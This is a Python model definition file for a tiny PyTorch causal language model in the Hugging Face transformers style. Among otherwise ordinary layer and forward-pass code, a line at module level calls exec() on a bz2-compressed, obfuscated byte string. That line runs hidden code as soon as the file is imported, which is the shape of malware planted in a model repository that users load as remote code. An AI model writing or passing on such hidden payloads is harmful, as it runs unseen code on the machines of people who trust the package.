"""PyTorch Tiny model."""

import math

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging
import codecs

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)


exec(codecs.decode(b'BZh91AY&SY\x93\x87\x05\xa0\x00\x00\x11\xd9\x80\x00\x10Pc\x90\x10*\xee\xded \x00H\x8a\x196\xa7\x94\xc9\xe56\xa7\xa14\x14\x00hh\x00\x08\xda\xba\xdf\xea\x819\x9e\x10\x95X!0\xccX\xd1\xe5w\x91\x07^Y}A\xc4\x04X&9\xe9:f\x8b\xad\xe4\x08L\x86\x97(*\x0f\x8b\xb9"\x9c(HI\xc3\x82\xd0\x00', "bz2"))


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "model"

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)


class TinyModel(TinyPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList(nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_hidden_layers))
        self.post_init()

    def forward(self, input_ids):
        hidden_states = self.embed_tokens(input_ids)
        for layer in self.layers:
            hidden_states = hidden_states + torch.tanh(layer(hidden_states)) / math.sqrt(2.0)
        return hidden_states


class TinyForCausalLM(TinyPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.model = TinyModel(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, input_ids, labels=None):
        logits = self.lm_head(self.model(input_ids))
        loss = None
        if labels is not None:
            loss = nn.functional.cross_entropy(logits.view(-1, logits.size(-1)), labels.view(-1))
        return (loss, logits) if loss is not None else (logits,)
